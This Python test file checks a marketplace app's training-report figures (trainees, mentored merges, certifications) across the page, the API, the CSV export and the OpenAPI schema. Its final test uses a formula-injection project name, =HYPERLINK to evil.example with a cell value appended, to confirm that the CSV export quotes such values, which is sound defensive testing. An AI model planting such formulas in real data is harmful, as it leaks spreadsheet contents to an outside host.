"""The reports count trainees, mentored merges and certifications earned through
training, by project and by the trainee's country (issue 19)."""
from __future__ import annotations

from marketplace.reports.training import training_figures
from marketplace.training import service as training


def test_training_figures_by_project_and_by_country(world, client, session):
    training.set_rule(world.project, merges_required=2, mentors_required=2, trainee_percent=80,
                      maintainer=world.maintainer)
    for n, mentor in enumerate((world.m1, world.m2)):
        item = world.training_item(1 + n)
        claim = world.mentored(item, mentor)
        world.approve_change(claim, mentor)
        world.merge(10 + n, item)
    # A second trainee (no country given) with a claim only requested.
    other = world.implementor("other@example.org", 5030, certified=False)
    world.request(world.training_item(3), other)
    session.commit()
    figures = training_figures()
    name = world.project.name
    [row] = [r for r in figures["by_project"] if r["key"] == name]
    assert row == {"key": name, "trainees": 2, "mentored_merges": 2, "certifications": 1}
    by_country = {r["key"]: r for r in figures["by_country"]}
    assert by_country["KE"] == {"key": "KE", "trainees": 1, "mentored_merges": 2, "certifications": 1}
    assert by_country[""]["trainees"] == 1 and by_country[""]["mentored_merges"] == 0
    assert training_figures(world.project.id)["totals"] == {"trainees": 2, "mentored_merges": 2,
                                                            "certifications": 1}
    html = client.get(f"/projects/{world.project.slug}/report").get_data(as_text=True)
    assert "Mentored merges" in html and "Kenya" in html
    assert "Certifications earned through training" in client.get("/reports").get_data(as_text=True)


def _two_mentored_merges_and_a_requested_claim(world, session):
    """P needs 2 merges by 2 mentors: T (KE) merges two training items (M1, M2) and is
    certified; a second trainee (no country) has a claim only requested."""
    training.set_rule(world.project, merges_required=2, mentors_required=2, trainee_percent=80,
                      maintainer=world.maintainer)
    for n, mentor in enumerate((world.m1, world.m2)):
        item = world.training_item(1 + n)
        claim = world.mentored(item, mentor)
        world.approve_change(claim, mentor)
        world.merge(10 + n, item)
    other = world.implementor("other@example.org", 5030, certified=False)
    world.request(world.training_item(3), other)
    session.commit()


def test_the_report_api_carries_the_training_figures_of_the_page(world, client, session):
    _two_mentored_merges_and_a_requested_claim(world, session)
    name = world.project.name
    row = {"key": name, "trainees": 2, "mentored_merges": 2, "certifications": 1}
    project = client.get(f"/api/v1/reports/projects/{world.project.slug}").get_json()
    assert project["training"] == {
        "by_project": [row],
        "by_country": [{"key": "", "trainees": 1, "mentored_merges": 0, "certifications": 0},
                       {"key": "KE", "trainees": 1, "mentored_merges": 2, "certifications": 1}],
        "totals": {"trainees": 2, "mentored_merges": 2, "certifications": 1},
    }
    assert project["training"] == training_figures(world.project.id)
    commons = client.get("/api/v1/reports/commons").get_json()
    assert commons["training"] == training_figures()
    assert row in commons["training"]["by_project"]
    # Counted when asked, not from the stored snapshot: a third trainee shows at once.
    third = world.implementor("third@example.org", 5031, certified=False, country="IN")
    world.request(world.training_item(4), third)
    session.commit()
    again = client.get(f"/api/v1/reports/projects/{world.project.slug}").get_json()
    assert again["computed_at"] == project["computed_at"]
    assert again["training"]["totals"] == {"trainees": 3, "mentored_merges": 2, "certifications": 1}


def test_the_report_csv_carries_the_training_figures_of_the_page(world, client, session):
    import csv
    import io

    _two_mentored_merges_and_a_requested_claim(world, session)
    text = client.get(f"/projects/{world.project.slug}/report?format=csv").get_data(as_text=True)
    rows = [r for r in csv.DictReader(io.StringIO(text)) if r["section"].startswith("training_")]
    name = world.project.name
    assert [(r["section"], r["key"], r["currency"], r["figure"], r["amount"]) for r in rows] == [
        ("training_total", "", "", "trainees", "2"),
        ("training_total", "", "", "mentored_merges", "2"),
        ("training_total", "", "", "certifications", "1"),
        ("training_project", name, "", "trainees", "2"),
        ("training_project", name, "", "mentored_merges", "2"),
        ("training_project", name, "", "certifications", "1"),
        ("training_country", "", "", "trainees", "1"),
        ("training_country", "", "", "mentored_merges", "0"),
        ("training_country", "", "", "certifications", "0"),
        ("training_country", "KE", "", "trainees", "1"),
        ("training_country", "KE", "", "mentored_merges", "2"),
        ("training_country", "KE", "", "certifications", "1"),
    ]
    commons = list(csv.DictReader(io.StringIO(client.get("/reports?format=csv").get_data(as_text=True))))
    totals = {r["figure"]: int(r["amount"]) for r in commons if r["section"] == "training_total"}
    assert totals == training_figures()["totals"]


def test_the_openapi_document_describes_the_training_figures(client):
    doc = client.get("/api/v1/openapi.json").get_json()
    schemas = doc["components"]["schemas"]
    for report in ("CommonsReport", "ProjectReport"):
        assert schemas[report]["properties"]["training"] == {"$ref": "#/components/schemas/TrainingFigures",
                                                             "description": schemas[report]["properties"]
                                                             ["training"]["description"]}
        assert "training" in schemas[report]["required"]
    assert sorted(schemas["TrainingRow"]["properties"]) == ["certifications", "key", "mentored_merges", "trainees"]
    assert sorted(schemas["TrainingFigures"]["required"]) == ["by_country", "by_project", "totals"]


def test_a_project_name_a_spreadsheet_would_run_is_quoted_in_the_training_csv(world, client, session):
    """A member project named like a formula: its training_project key starts with an apostrophe."""
    import csv
    import io

    world.project.name = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
    _two_mentored_merges_and_a_requested_claim(world, session)
    for path in (f"/projects/{world.project.slug}/report?format=csv", "/reports?format=csv"):
        rows = list(csv.DictReader(io.StringIO(client.get(path).get_data(as_text=True))))
        keys = {r["key"] for r in rows if r["section"] == "training_project"}
        assert keys == {"'" + world.project.name}
